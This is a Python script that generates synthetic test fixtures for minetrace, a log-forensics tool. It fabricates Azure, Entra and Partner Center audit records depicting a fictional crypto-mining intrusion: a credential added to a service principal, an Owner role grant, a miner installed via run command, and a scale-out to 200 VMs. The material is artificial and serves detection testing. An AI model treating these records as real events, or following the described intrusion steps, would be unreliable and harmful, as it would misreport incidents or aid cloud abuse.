    audit = {"time": "2026-10-12T07:49:30.0027651Z",
             "resourceId": f"/tenants/{TI}/providers/Microsoft.aadiam",
             "operationName": "Add service principal credentials", "operationVersion": "1.0",
             "category": "AuditLogs", "tenantId": TI, "resultSignature": "None", "durationMs": 0,
             "callerIpAddress": IP_ATTACKER_USER, "correlationId": gid("audit-corr"),
             "identity": "Jonas Keller", "Level": 4, "properties": {
                 "id": "Directory_" + gid("audit-corr") + "_XK41L_12345678",
                 "category": "ApplicationManagement", "result": "success",
                 "activityDisplayName": "Add service principal credentials",
                 "activityDateTime": "2026-10-12T07:49:30.0027651+00:00",
                 "loggedByService": "Core Directory", "operationType": "Update",
                 "initiatedBy": {"user": {"id": OID_I, "userPrincipalName": UPN_I,
                                          "ipAddress": IP_ATTACKER_USER}},
                 "targetResources": [{"id": SP_OID_I, "displayName": "fab-backup-automation",
                                      "type": "ServicePrincipal", "modifiedProperties": [
                                          {"displayName": "KeyDescription", "oldValue": "[]",
                                           "newValue": "[\"[KeyIdentifier=" + gid("kid")
                                                       + ",KeyType=Password,KeyUsage=Verify,"
                                                         "DisplayName=backup]\"]"}]}]}}
    nonint = dict(signin, category="NonInteractiveUserSignInLogs",
                  time="2026-10-12T08:02:10.5530000Z", correlationId=gid("signin-corr2"))
    spsign = {"time": "2026-10-12T08:02:59.9120000Z",
              "resourceId": f"/tenants/{TI}/providers/Microsoft.aadiam",
              "operationName": "Sign-in activity", "operationVersion": "1.0",
              "category": "ServicePrincipalSignInLogs", "tenantId": TI, "resultType": "0",
              "resultSignature": "SUCCESS", "durationMs": 0, "callerIpAddress": IP_ATTACKER_SP,
              "correlationId": gid("sp-signin-corr"), "Level": 4, "location": "US",
              "properties": {"id": gid("sp-signin"), "appId": SP_APP_I,
                             "servicePrincipalId": SP_OID_I,
                             "servicePrincipalName": "fab-backup-automation",
                             "ipAddress": IP_ATTACKER_SP, "resourceDisplayName": "Windows Azure Service Management API",
                             "status": {"errorCode": 0}}}
    funclog = {"location": "eastus", "time": "10/12/2026 08:03:14",
               "properties": "{'appName':'fab-func','message':'Host started','level':'Information'}",
               "operationName": "Microsoft.Web/sites/functions/log",
               "resourceId": f"/SUBSCRIPTIONS/{SI.upper()}/RESOURCEGROUPS/RG-INGEST/PROVIDERS/MICROSOFT.WEB/SITES/FAB-FUNC",
               "level": "Informational", "category": "FunctionAppLogs"}
    act = lambda n, t7, tn: (  # noqa: E731
        cjson(export_i(t7, vm_op.upper(), VM_I.upper(), "Start", "Started.", corr=corr(f"mix-{n}"))),
        event_x(tn, "started", "Start", vm_op, VM_I, corr=corr(f"mix-{n}"), caller=caller_sp_i(),
                caller_ip=IP_ATTACKER_SP))
    items = [act(0, "2026-10-12T07:45:00.0000000Z", "2026-10-12T07:45:00.000000Z"),
             (cjson(signin), {"ignored": "entra-signin"}),
             act(1, "2026-10-12T07:50:00.0000000Z", "2026-10-12T07:50:00.000000Z"),
             (cjson(audit), {"ignored": "entra-audit"}),
             (cjson(nonint), {"ignored": "entra-signin"}),
             (cjson(funclog), {"ignored": "resource-log"}),
             (cjson(spsign), {"ignored": "entra-signin"}),
             act(2, "2026-10-12T08:05:00.0000000Z", "2026-10-12T08:05:00.000000Z")]
    t, recs = jsonl(items)
    names.append(write_ingest_file(
        "export-mixed-entra.jsonl", "activity-export",
        "Entra sign-in (SignInLogs, NonInteractiveUserSignInLogs, ServicePrincipalSignInLogs), "
        "Entra audit (AuditLogs) and a resource log (FunctionAppLogs) in an activity export: "
        "counted as ignored, never quarantined", t, recs))

    # 14. Partner Center JSON Lines.
    s_a, s_b = gid("ingest", "pc-sub-a"), gid("ingest", "pc-sub-b")
    order = "Ia80ZLkXp6eWOqpp35pBQJLhqv9IiGVZ1"
    pc_items = [
        ({"id": "pc-ingest-1", "partnerId": PARTNER.upper(), "customerId": TI.upper(),
          "customerName": "Contoso Ingest GmbH", "userPrincipalName": PC_ADMIN,
          "applicationId": PC_WEB_APP, "resourceType": "customer",
          "resourceNewValue": cjson({"Id": TI, "CompanyProfile": {"TenantId": TI,
                                                                   "CompanyName": "Contoso Ingest GmbH"}}),
          "operationType": "add_customer", "operationDate": "2026-09-01T09:00:00.1234567Z",
          "operationStatus": "succeeded", "customizedData": [], "attributes": {"objectType": "AuditRecord"}},
         {"time": "2026-09-01T09:00:00.123456Z", "phase": "succeeded", "status": "succeeded",
          "operation": "add_customer", "tenant_id": TI, "caller": {"upn": PC_ADMIN},
          "partner": {"partner_id": PARTNER, "customer_name": "Contoso Ingest GmbH", "order_id": "",
                      "record_id": "pc-ingest-1", "subscription_ids": []}}),
        ({"id": "pc-ingest-2", "partnerId": PARTNER, "customerId": TI,
          "customerName": "Contoso Ingest GmbH", "userPrincipalName": PC_ADMIN,
          "applicationId": "Partner Center Native App", "resourceType": "order",
          "resourceNewValue": cjson({"Id": order, "ReferenceCustomerId": TI, "LineItems": [
              {"LineItemNumber": 0, "OfferId": OFFER_AZURE_PLAN, "SubscriptionId": s_a.upper(),
               "FriendlyName": "Azure plan", "Quantity": 1},
              {"LineItemNumber": 1, "OfferId": OFFER_AZURE_PLAN, "SubscriptionId": s_b,
               "FriendlyName": "Azure plan 2", "Quantity": 1}],
              "CreationDate": "2026-09-01T02:10:00.5000000-07:00"}),
          "operationType": "create_order", "operationDate": "2026-09-01T09:10:01.0000001Z",
          "operationStatus": "succeeded",
          "customizedData": [{"key": "OrderId", "value": order},
                             {"key": "OfferId-0", "value": OFFER_AZURE_PLAN},
                             {"key": "SubscriptionId-0", "value": s_a.upper()},
                             {"key": "OfferId-1", "value": OFFER_AZURE_PLAN},
                             {"key": "SubscriptionId-1", "value": s_b},
                             {"key": "PartnerOnRecord-0", "value": None}],
          "attributes": {"objectType": "AuditRecord"}},
         {"time": "2026-09-01T09:10:01.000000Z", "phase": "succeeded", "status": "succeeded",
          "operation": "create_order", "tenant_id": TI, "caller": {"upn": PC_ADMIN},
          "partner": {"partner_id": PARTNER, "customer_name": "Contoso Ingest GmbH",
                      "order_id": order.lower(), "record_id": "pc-ingest-2",
                      "subscription_ids": [s_a, s_b]}}),
        ({"id": "pc-ingest-3", "partnerId": PARTNER, "customerId": TI,
          "customerName": "Contoso Ingest GmbH", "userPrincipalName": PC_NEWUSER,
          "resourceType": "customer_user", "operationType": "reset_customer_user_password",
          "operationDate": "2026-10-12T07:31:12.6619304+00:00", "operationStatus": "succeeded",
          "customizedData": [{"key": "CustomerUserId", "value": OID_I}],
          "attributes": {"objectType": "AuditRecord"}},
         {"time": "2026-10-12T07:31:12.661930Z", "phase": "succeeded", "status": "succeeded",
          "operation": "reset_customer_user_password", "tenant_id": TI,
          "caller": {"upn": PC_NEWUSER},
          "partner": {"partner_id": PARTNER, "customer_name": "Contoso Ingest GmbH", "order_id": "",
                      "record_id": "pc-ingest-3", "subscription_ids": []}}),
        ({"id": "pc-ingest-4", "partnerId": PARTNER, "customerId": TI,
          "customerName": "Contoso Ingest GmbH", "userPrincipalName": PC_NEWUSER,
          "applicationId": PC_WEB_APP, "resourceType": "overage",
          "operationType": "rotate_widget_keys", "operationDate": "2026-10-12T08:00:00Z",
          "operationStatus": "progress", "customizedData": [],
          "attributes": {"objectType": "AuditRecord"}},
         {"time": "2026-10-12T08:00:00.000000Z", "phase": "started", "status": "progress",
          "operation": "rotate_widget_keys", "tenant_id": TI, "caller": {"upn": PC_NEWUSER},
          "partner": {"partner_id": PARTNER, "customer_name": "Contoso Ingest GmbH", "order_id": "",
                      "record_id": "pc-ingest-4", "subscription_ids": []}}),
        ({"id": "pc-ingest-5", "partnerId": PARTNER, "customerId": TI,
          "customerName": "Contoso Ingest GmbH", "userPrincipalName": PC_NEWUSER,
          "applicationId": PC_WEB_APP, "resourceType": "spending_limit",
          "resourceOldValue": cjson({"SubscriptionId": s_a, "Limit": 5000.0}),
          "resourceNewValue": cjson({"SubscriptionId": s_a, "Limit": 50000.0}),
          "operationType": "increase_spending_limit", "operationDate": "2026-10-12T08:26:48.7735519Z",
          "operationStatus": "failed",
          "customizedData": [{"key": "SubscriptionId", "value": s_a}],
          "attributes": {"objectType": "AuditRecord"}},
         {"time": "2026-10-12T08:26:48.773551Z", "phase": "failed", "status": "failed",
          "operation": "increase_spending_limit", "tenant_id": TI, "caller": {"upn": PC_NEWUSER},
          "partner": {"partner_id": PARTNER, "customer_name": "Contoso Ingest GmbH", "order_id": "",
                      "record_id": "pc-ingest-5", "subscription_ids": [s_a]}}),
    ]
    t, recs = jsonl([(cjson(r), e) for r, e in pc_items])
    names.append(write_ingest_file(
        "partner-center-audit.jsonl", "partner-center-audit",
        "Partner Center audit items as JSON Lines: upper-case partner/customer GUIDs, two line items "
        "with upper/lower subscription ids (deduplicated, lower-cased), missing applicationId, an "
        "unknown operationType (kept), operationStatus progress/failed, a +00:00 operationDate "
        "and one without fraction. phase as in core/phase.cpp: progress -> started", t, recs))

    # 15. {"records":[...]} whose last element is truncated.
    recs_doc = [export_i(f"2026-10-12T09:0{n}:00.0000000Z", vm_op.upper(), VM_I.upper(), "Start",
                         "Started.", corr=corr(f"rec-{n}"),
                         extra={"RoleLocation": "East US", "Stamp": "EUS2-FDWeb-07"})
                for n in range(3)]
    t, recs = Text(), []
    t.add('{\n    "records": [\n')
    for n, r in enumerate(recs_doc):
        t.add("        ")
        m = t.mark()
        body = json.dumps(r, indent=4).replace("\n", "\n        ")
        if n < 2:
            t.add(body + ",\n")
            recs.append(m | event_x(f"2026-10-12T09:0{n}:00.000000Z", "started", "Start", vm_op,
                                    VM_I, corr=corr(f"rec-{n}"), caller=caller_sp_i(),
                                    caller_ip=IP_ATTACKER_SP))
        else:
            t.add(body[: len(body) // 2])
            recs.append(m | {"quarantine": "truncated"})
    names.append(write_ingest_file(
        "records-truncated.json", "activity-export",
        "Event Hub / old-blob {\"records\":[...]} document cut off inside its third record: the "
        "two complete records are events, the cut one is quarantined as truncated at its `{`",
        t, recs))

    # 16. Unrecognized records and missing required fields.
    no_time = export_i("x", vm_op.upper(), VM_I.upper(), "Start", "Started.", corr=corr("nt"))
    del no_time["time"]
    no_op = export_i("2026-10-12T09:10:00.0000000Z", vm_op.upper(), VM_I.upper(), "Success",
                     "Succeeded.OK", corr=corr("no-op"))
    del no_op["operationName"]
    del no_op["resourceId"]
    del no_op["identity"]["authorization"]
    items = [(cjson(good[0]), exps[0]),
             ('{"hello":"world","answer":42}', {"quarantine": "unrecognized-record"}),
             ("[1,2,3]", {"quarantine": "unrecognized-record"}),
             ('"just a string"', {"quarantine": "unrecognized-record"}),
             (cjson(no_time), {"quarantine": "missing-fields"}),
             (cjson(no_op), {"quarantine": "missing-fields"}),
             (cjson(good[1]), exps[1])]
    t, recs = jsonl(items)
    names.append(write_ingest_file(
        "unrecognized-and-missing.jsonl", "activity-export",
        "valid JSON that is no known record kind (object, array, string) -> unrecognized-record; "
        "an activity record without `time`, one without operationName/resourceId -> "
        "missing-fields", t, recs))

    # 17. A record larger than the configured limit.
    big_resp = {"name": "vm-ingest-01", "id": VM_I, "type": "Microsoft.Compute/virtualMachines",
                "tags": {f"tag{n:04d}": htext(48, B64URL, "big", str(n)) for n in range(380)}}
    big = export_i("2026-10-12T09:20:01.0000000Z", vm_op.upper(), VM_I.upper(), "Accept",
                   "Accepted.Created", corr=corr("big"),
                   properties={"statusCode": "Created", "responseBody": cjson(big_resp)})
    items = [(cjson(good[0]), exps[0]), (cjson(big), {"quarantine": "record-too-large"}),
             (cjson(good[1]), exps[1])]
    t, recs = jsonl(items)
    assert len(cjson(big)) > 16384
    names.append(write_ingest_file(
        "record-too-large.jsonl", "activity-export",
        "a valid but ~26 KB record between two good lines; with max_record_bytes = 16384 it is "
        "quarantined as record-too-large (whatever the batch size) and the next line still parses",
        t, recs, limits={"max_record_bytes": 16384}))

    # 18. Log Analytics query API: double-escaped requestbody, Claims "" with Claims_d null.
    c = corr("la")
    rows, exp_rows = [], []
    la_cases = [("2026-10-12T07:52:10.412Z", "Start", "", True),
                ("2026-10-12T07:52:11.952Z", "Success", "Created", False)]
    ra_rid = f"/subscriptions/{SI}/providers/Microsoft.Authorization/roleAssignments/{gid('ra-i')}"
    ra_op = "Microsoft.Authorization/roleAssignments/write"
    ra_body = {"Id": gid("ra-i"), "Properties": {
        "PrincipalId": SP_OID_I, "PrincipalType": "ServicePrincipal",
        "RoleDefinitionId": f"/subscriptions/{SI}/providers/Microsoft.Authorization/roleDefinitions/{OWNER}",
        "Scope": f"/subscriptions/{SI}", "Condition": None, "ConditionVersion": None}}
    for n, (tg, phase, code, bare) in enumerate(la_cases):
        props = ({"requestbody": cjson(ra_body)} if phase == "Start"
                 else {"statusCode": code, "serviceRequestId": None})
        props |= {"eventCategory": "Administrative", "entity": ra_rid, "message": ra_op,
                  "hierarchy": f"{TI}/{SI}"}
        claims = user_claims_i()
        vals = {"TenantId": WORKSPACE, "SourceSystem": "Azure", "CallerIpAddress": IP_ATTACKER_USER,
                "CategoryValue": "Administrative", "CorrelationId": c,
                "Authorization": cjson({"action": ra_op, "scope": f"/subscriptions/{SI}"}),
                "Authorization_d": None if bare else {"action": ra_op, "scope": f"/subscriptions/{SI}"},
                "Claims": "" if bare else cjson(claims), "Claims_d": None if bare else claims,
                "Level": "Informational", "OperationNameValue": ra_op, "Properties": cjson(props),
                "Properties_d": None if bare else props, "Caller": UPN_I,
                "EventDataId": gid("la-ed", str(n)), "EventSubmissionTimestamp": "2026-10-12T07:53:41.181Z",
                "HTTPRequest": cjson({"clientRequestId": gid("la-cr"), "clientIpAddress": IP_ATTACKER_USER,
                                      "method": "PUT"}),
                "OperationId": gid("la-op"), "ResourceGroup": "",
                "ResourceProviderValue": "Microsoft.Authorization", "ActivityStatusValue": phase,
                "ActivitySubstatusValue": code, "Hierarchy": f"{TI}/{SI}", "TimeGenerated": tg,
                "SubscriptionId": SI, "OperationName": "Create role assignment",
                "ActivityStatus": REST_STATUS[phase], "ActivitySubstatus": substatus_localized(code),
                "Category": "Administrative", "ResourceId": ra_rid,
                "ResourceProvider": "Microsoft.Authorization", "Resource": gid("ra-i"),
                "Type": "AzureActivity", "_ResourceId": ra_rid.lower()}
        rows.append([vals[k] for k, _ in LA_QUERY_COLUMNS])
        caller_x = ({"caller": UPN_I, "object_id": "", "app_id": "", "token_id": ""} if bare
                    else caller_user_i(caller=UPN_I))
        extra = {"request_body_json": ra_body} if phase == "Start" else {}
        exp_rows.append(event_x(tg[:-1] + "000Z", "started" if phase == "Start" else "succeeded",
                                phase, ra_op, ra_rid, corr=c, caller=caller_x,
                                caller_ip=IP_ATTACKER_USER, status_code=code, **extra))
    doc = {"tables": [{"name": "PrimaryResult",
                       "columns": [{"name": k, "type": ty} for k, ty in LA_QUERY_COLUMNS],
                       "rows": []}]}
    head = json.dumps(doc)
    pre, post = head.split('"rows": []')
    t, recs = Text(), []
    t.add(pre + '"rows": [')
    for n, row in enumerate(rows):
        recs.append(t.mark() | exp_rows[n])
        t.add(json.dumps(row))
        if n + 1 < len(rows):
            t.add(", ")
    t.add("]" + post + "\n")
    names.append(write_ingest_file(
        "la-query-double-escaped.json", "activity-log-analytics",
        "Log Analytics query API table: Properties is a JSON string whose requestbody is itself a "
        "JSON string (double-escaped in the file); row 1 has Claims \"\" and all *_d null (caller "
        "only from the Caller column), row 2 has the *_d objects. Each row's offset is its `[`",
        t, recs))

    # 19. SDK as_dict() JSON Lines with str(datetime) timestamps.
    def sdk_i(ts, phase, code, corr_id):
        return {"authorization": {"action": vm_op, "scope": VM_I}, "caller": SP_APP_I,
                "channels": "Operation", "claims": sp_claims_i(), "correlation_id": corr_id,
                "description": "", "event_data_id": gid("sdk-i", ts),
                "event_name": {"value": "EndRequest", "localized_value": "End request"},
                "category": {"value": "Administrative", "localized_value": "Administrative"},
                "http_request": {"client_request_id": gid("sdk-cr", ts),
                                 "client_ip_address": IP_ATTACKER_SP, "method": "PUT"},
                "id": f"{VM_I}/events/{gid('sdk-i', ts)}/ticks/1",
                "level": "Informational", "resource_group_name": RG_I,
                "resource_provider_name": {"value": "Microsoft.Compute",
                                           "localized_value": "Microsoft.Compute"},
                "resource_id": VM_I,
                "resource_type": {"value": "Microsoft.Compute/virtualMachines",
                                  "localized_value": "Microsoft.Compute/virtualMachines"},
                "operation_id": gid("sdk-op"),
                "operation_name": {"value": vm_op, "localized_value": "Create or Update Virtual Machine"},
                "properties": {"statusCode": code},
                "status": {"value": phase, "localized_value": phase},
                "sub_status": {"value": code, "localized_value": substatus_localized(code)},
                "event_timestamp": ts, "submission_timestamp": ts, "subscription_id": SI,
                "tenant_id": TI}

    items = [(cjson(sdk_i("2026-10-12 08:03:11.123000+00:00", "Accepted", "Created", corr("sdk"))),
              event_x("2026-10-12T08:03:11.123000Z", "accepted", "Accepted", vm_op, VM_I,
                      corr=corr("sdk"), caller=caller_sp_i(caller=SP_APP_I),
                      caller_ip=IP_ATTACKER_SP, status_code="Created", tenant_id=TI)),
             (cjson(sdk_i("2026-10-12 08:07:40+00:00", "Succeeded", "OK", corr("sdk"))),
              event_x("2026-10-12T08:07:40.000000Z", "succeeded", "Succeeded", vm_op, VM_I,
                      corr=corr("sdk"), caller=caller_sp_i(caller=SP_APP_I),
                      caller_ip=IP_ATTACKER_SP, status_code="OK", tenant_id=TI))]
    t, recs = jsonl(items)
    names.append(write_ingest_file(
        "sdk-snake-case.jsonl", "activity-sdk",
        "Python SDK EventData.as_dict() dumped with default=str: snake_case keys, "
        "{value, localized_value}, times like '2026-10-12 08:03:11.123000+00:00' (no fraction "
        "when it is zero)", t, recs))

    # 20. Two REST pages concatenated with no separator at all.
    p1 = {"value": [docs[0][0]], "nextLink": next_link(SI, 2)}
    p2 = {"value": [docs[1][0]]}
    t, recs = Text(), []
    t.add('{"value":[')
    recs.append(t.mark() | docs[0][1])
    t.add(cjson(docs[0][0]) + '],"nextLink":' + json.dumps(p1["nextLink"]) + "}")
    t.add('{"value":[')
    recs.append(t.mark() | docs[1][1])
    t.add(cjson(docs[1][0]) + "]}")
    names.append(write_ingest_file(
        "rest-pages-no-separator.json", "activity-rest",
        "two {\"value\":[...]} pages back to back with no whitespace between them and no final "
        "newline; same two events as rest-claims-whitespace.json", t, recs))
    return names


def _csv_row_text(row):
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow(row)
    return buf.getvalue()


# --------------------------------------------------------------------------------------------
# README, validation, main
# --------------------------------------------------------------------------------------------

README = """# fixtures

Test inputs for minetrace. **Everything under `scenarios/` and `ingest/` is generated by
`scripts/gen_fixtures.py` (python3, standard library only, fixed seed; two runs give
byte-identical files). Do not hand-edit these files: change the script and re-run
`python3 scripts/gen_fixtures.py`.** All GUIDs are fictional; IPs come from the documentation
ranges 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 plus one foreign address (185.220.101.47).

## scenarios/intrusion/

One crypto-mining incident (tenant Fabrikam Robotics, CSP partner Northwind) rendered in every
input shape. Each subfolder holds the same activity-log facts exactly once (files partition the
records; nothing is duplicated inside a folder), so ingesting one folder reproduces the story.
`rest-array/`, `sdk-jsonl/` and `la-csv/` are gzipped to keep all fixtures under 3.5 MB (and to
exercise the gzip input path); plain-text samples of those formats are `rest-pages/`,
`ingest/sdk-snake-case.jsonl` and `ingest/la-csv-us-locale.csv`.
Inside an export blob records are in arrival order, not time order (as in real blobs).

| folder | shape |
|---|---|
| `export-jsonl/` | diagnostic-settings export to Storage: `insights-activity-logs/resourceId=/SUBSCRIPTIONS/<SUB>/y=/m=/d=/h=/m=00/PT1H.json`, JSON Lines, one blob per subscription and hour of *arrival* (a record written at 08:59:50 sits in the h=09 blob); resourceId/operationName UPPER-case, resultType Start/Accept/Success/Failure, `identity.authorization.evidence` |
| `eventhub-records/` | Event Hub messages `{"records":[...]}` one per line (`partition-*.jsonl`), plus one pretty-printed message (`partition-0-message-2026-10-14.json`); records carry RoleLocation/Stamp/ReleaseVersion |
| `rest-array/` | `az monitor activity-log list` output saved and gzipped (`.json.gz`): one pretty JSON array of EventData, newest first |
| `rest-pages/` | REST `{"value":[...],"nextLink":...}` pages: pages 1 and 2 concatenated in one file, later pages one per file, the last S1 page without nextLink, the S2 page with `"nextLink": null` |
| `sdk-jsonl/` | Python SDK `EventData.as_dict()` JSON Lines per subscription, gzipped (snake_case, `str(datetime)` times) |
| `la-query/` | Log Analytics query API `{"tables":[...]}`, one file per month; Authorization/Claims/Properties/HTTPRequest are JSON strings (`Properties.requestbody` double-escaped); `Authorization_d`/`Claims_d` are null in September and objects in October; `Properties_d` null |
| `la-csv/` | portal CSV export, gzipped (`query_data.csv.gz`): BOM, CRLF, ` [UTC]` headers, US-locale times, multi-line JSON cells, empty legacy and AuditLogs columns as in a union query |
| `partner-center/` | Partner Center audit API pages (records up to 2026-10-10) and a JSON Lines file of later items |

`expected.json` is the ground truth: `resources[]` (one per created resource, lower-case id,
creator, request/completion times, correlation, deployment, role assignment that authorized the
creator, deletion, parent, severity, indicators, details), `preparation[]` (provider
registrations, quota requests), `subscriptions[]` (from Partner Center create_order),
`partner_center[]`, `principals`, record counts and `shapes{}` (files and record counts per
folder). Its `conventions` object states how each field is derived; every fact is derivable
from the logs alone.

## scenarios/estate/

An intrusion on resources created before the logs begin (the common real case: activity logs
keep 90 days): a render farm's three GPU VMs and scale set (capacity 2) get nightly run commands
and tag updates from a patching service principal, on five nights around the intrusion. A
compromised user requests GPU quota, runs a miner through a run command on render-02, installs one
through a new CustomScript extension on render-03, scales the set from 2 to 200 and creates one
new Spot GPU VM. Rendered in the same seven activity-log shapes as `intrusion/` (same folder
names). `expected.json` lists each resource's status (`pre-existing` with `first_seen`, actor,
act and acted_at; or `created` with its creator and creation evidence), severity, the scale
set's `size_changes.capacity` (2 -> 200, by whom, when), the routine automation that must never
be named, and the quota request that is the user's preparation.

## ingest/

Small parser edge cases. Each `<name>` has a sidecar `<name>.expect.json` whose `description`
says what the file exercises:

| file | covers |
|---|---|
| `export-operation-casing.jsonl` | operationName UPPER/lower/Mixed, resourceId casing, `/TeNaNtS/…/PrOvIdErS/` |
| `export-durations-bodies.jsonl` | durationMs string/number/absent, bodies as strings and objects, `identity` as a string, QuotaExceeded |
| `export-time-formats.jsonl` | 7/9-digit fractions, `+00:00`, `-07:00`, `+02:00`, no zone, US-locale time |
| `la-csv-us-locale.csv` | portal CSV: BOM, CRLF, US-locale times (12 AM/PM), multi-line JSON cells |
| `la-query-double-escaped.json` | query API table, double-escaped requestbody, `Claims ""` with `*_d` null |
| `sdk-snake-case.jsonl` | SDK as_dict() keys and `str(datetime)` times |
| `rest-claims-whitespace.json` | claims/caller with surrounding spaces, IPv6 and `<Redacted>` client IPs |
| `rest-pages-no-separator.json` | two REST pages back to back, no separator |
| `export-caller-ip.jsonl` | callerIpAddress IPv6, `<Redacted>`, IPv4-mapped |
| `legacy-categories.jsonl` | categories Write/Action/Delete, status code from resultSignature |
| `export-mixed-entra.jsonl` | Entra sign-in/audit and resource-log records (ignored) |
| `partner-center-audit.jsonl` | Partner Center items: GUID casing, line items, unknown operationType, statuses |
| `empty.jsonl`, `blank-lines.jsonl` | nothing to read |
| `truncated-last-line.jsonl`, `records-truncated.json` | truncated |
| `invalid-json-between.jsonl` | invalid-json |
| `bad-timestamp.jsonl` | bad-timestamp |
| `unrecognized-and-missing.jsonl` | unrecognized-record, missing-fields |
| `record-too-large.jsonl` | record-too-large (with `parser_limits.max_record_bytes` = 16384) |

Sidecar schema:

```
{ "file", "source_kind" (activity-export | activity-rest | activity-sdk |
  activity-log-analytics | partner-center-audit), "description", ["parser_limits"],
  "totals": {"events", "quarantined", "ignored"},
  "records": [ one entry per record in file order, each with "index" (1-based), "line"
               (1-based line where the record starts) and "offset" (byte offset of its first
               byte, counting a BOM) and exactly one of:
     event fields: time (RFC 3339, 6 digits, UTC), time_zone_assumed, phase
                   (started|accepted|succeeded|failed|other), status (as written), operation,
                   resource_id_lower, resource_type, subscription_id, resource_group,
                   correlation_id (lower-cased), category (as written), caller_ip (as written),
                   status_code, optional tenant_id, caller {...}, request_body_json /
                   response_body_json / status_message_json (compare parsed JSON), partner {...}
     "quarantine": invalid-json | bad-timestamp | truncated | unrecognized-record |
                   missing-fields | record-too-large
     "ignored":    entra-signin | entra-audit | resource-log ] }
```

Keys absent from an expectation are not asserted; an empty string asserts an empty field.
`caller` keys mirror `Caller` in core/event.hpp (`mfa` is unknown|no|yes); `partner` keys mirror
`PartnerCenterFields`. Other folders under fixtures/ are not produced by this script.
"""


def validate():
    """Parses every JSON/JSONL/CSV output (except the deliberately broken ingest files)."""
    broken = {"truncated-last-line.jsonl", "invalid-json-between.jsonl", "records-truncated.json"}
    dec = json.JSONDecoder()
    for path, _ in WRITTEN:
        name = path.name
        raw = path.read_bytes()
        if name in broken:
            continue
        if name.endswith(".gz"):
            raw = gzip.decompress(raw)
            name = name[:-3]
        if name.endswith(".csv"):
            text = raw.decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text, newline="")))
            assert all(len(r) == len(rows[0]) for r in rows), name
            for r in rows[1:]:
                for cell in r:
                    if cell.startswith("{"):
                        json.loads(cell)
            continue
        text = raw.decode("utf-8")
        if name.endswith(".jsonl") or name == "PT1H.json":
            for line in text.splitlines():
                if line.strip():
                    json.loads(line)
        elif name.endswith(".json"):
            pos = 0
            while pos < len(text):  # also accepts concatenated documents
                while pos < len(text) and text[pos].isspace():
                    pos += 1
                if pos >= len(text):
                    break
                _, pos = dec.raw_decode(text, pos)


def generate(report=True):
    for d in (SCENARIO_DIR, ESTATE_DIR, OVERLAP_DIR, INGEST_DIR):
        if d.exists():
            shutil.rmtree(d)
    ra_op = write_story()
    write_detection_story()
    recs = partner_records()
    shapes = {}
    writers = [("export-jsonl", write_export_jsonl, "activity-export"),
               ("eventhub-records", write_eventhub, "activity-export"),
               ("rest-array", write_rest_array, "activity-rest"),
               ("rest-pages", write_rest_pages, "activity-rest"),
               ("sdk-jsonl", write_sdk, "activity-sdk"),
               ("la-query", write_la_query, "activity-log-analytics"),
               ("la-csv", write_la_csv, "activity-log-analytics")]
    for folder, fn, kind in writers:
        files, n = fn(SCENARIO_DIR / folder)
        assert n == len(EVENTS), folder
        shapes[folder] = {"source_kind": kind, "files": files,
                          "compression": "gzip" if files[0].endswith(".gz") else "none",
                          "activity_records": n, "partner_records": 0}
    files, n = write_partner_center(SCENARIO_DIR / "partner-center", recs)
    shapes["partner-center"] = {"source_kind": "partner-center-audit", "files": files,
                                "compression": "none", "activity_records": 0, "partner_records": n}
    intrusion_expected = build_expected(ra_op, recs, shapes)
    intrusion_expected["detections"] = expected_detections()
    write(SCENARIO_DIR / "expected.json",
          json.dumps(intrusion_expected, indent=2, ensure_ascii=False) + "\n")
    write_overlap(intrusion_expected)
    write_estate(writers)
    write_ingest()
    write(FIXTURES / "README.md", README)
    validate()
    if not report:
        return
    total = sum(n for _, n in WRITTEN)
    per = {}
    for p, n in WRITTEN:
        top = p.relative_to(FIXTURES).parts
        key = "/".join(top[:3]) if top[0] == "scenarios" else top[0]
        per[key] = per.get(key, 0) + n
    for k in sorted(per):
        print(f"{per[k]:>9}  {k}")
    print(f"{total:>9}  total bytes in {len(WRITTEN)} files; {len(EVENTS)} activity records")
    if total > 3_500_000:
        sys.exit("fixtures exceed the 3.5 MB budget")


def files_under(root):
    """The generated files below root (the folders this script owns), as relative paths."""
    out = set()
    for sub in ("scenarios/intrusion", "scenarios/estate", "scenarios/overlap", "ingest"):
        base = root / sub
        if base.is_dir():
            out.update(p.relative_to(root).as_posix() for p in base.rglob("*") if p.is_file())
    if (root / "README.md").is_file():
        out.add("README.md")
    return out


def check():
    """Regenerates into a temporary directory; exit 1 listing the files that differ from
    fixtures/ (missing, extra or different bytes)."""
    global FIXTURES, SCENARIO_DIR, ESTATE_DIR, OVERLAP_DIR, INGEST_DIR
    committed = FIXTURES
    with tempfile.TemporaryDirectory(prefix="minetrace-fixtures-") as tmp:
        FIXTURES = Path(tmp)
        SCENARIO_DIR = FIXTURES / "scenarios" / "intrusion"
        ESTATE_DIR = FIXTURES / "scenarios" / "estate"
        OVERLAP_DIR = FIXTURES / "scenarios" / "overlap"
        INGEST_DIR = FIXTURES / "ingest"
        generate(report=False)
        fresh, have = files_under(FIXTURES), files_under(committed)
        drift = [f"missing from fixtures/: {f}" for f in sorted(fresh - have)]
        drift += [f"not generated (stale?): {f}" for f in sorted(have - fresh)]
        drift += [f"differs: {f}" for f in sorted(fresh & have)
                  if (FIXTURES / f).read_bytes() != (committed / f).read_bytes()]
    if drift:
        print("fixtures drifted from scripts/gen_fixtures.py; re-run it and commit:")
        for line in drift:
            print("  " + line)
        sys.exit(1)
    print(f"fixtures match scripts/gen_fixtures.py ({len(fresh)} files)")


def main():
    if sys.argv[1:] == ["--check"]:
        check()
    elif sys.argv[1:]:
        sys.exit("usage: gen_fixtures.py [--check]")
    else:
        generate()


if __name__ == "__main__":
    main()
